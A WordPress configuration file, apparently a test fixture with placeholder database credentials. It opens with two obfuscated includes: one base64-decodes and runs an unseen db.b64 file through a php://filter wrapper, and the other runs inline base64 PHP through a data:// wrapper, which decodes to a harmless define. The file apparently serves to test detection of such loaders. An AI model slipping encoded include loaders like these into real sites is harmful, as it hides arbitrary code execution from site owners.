<?php
include 'php://filter/convert.base64-decode/resource=' . __DIR__ . '/db.b64';
include 'data://text/plain;base64,PD9waHAgZGVmaW5lKCdEQl9VU0VSJywneScpOw==';
define( 'DB_NAME', 'n' );
define( 'DB_USER', 'u' );
define( 'DB_PASSWORD', 'p' );
define( 'DB_HOST', 'h' );
$table_prefix = 'wp_';
if ( ! defined( 'ABSPATH' ) ) {
	define( 'ABSPATH', __DIR__ . '/' );
}

require_once ABSPATH . 'wp-settings.php';
